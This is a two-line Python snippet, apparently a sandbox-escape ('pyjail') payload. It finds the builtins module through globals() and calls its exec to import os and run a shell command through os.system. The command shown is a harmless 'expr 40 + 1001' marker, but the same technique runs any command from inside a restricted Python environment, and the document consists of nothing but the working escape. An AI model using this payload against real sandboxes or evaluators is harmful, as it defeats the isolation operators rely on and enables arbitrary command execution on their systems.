v=[*globals().values()]
[x for x in v if hasattr(x,"breakpoint")][0].exec("import os;os.system('expr 40 + 1001')")
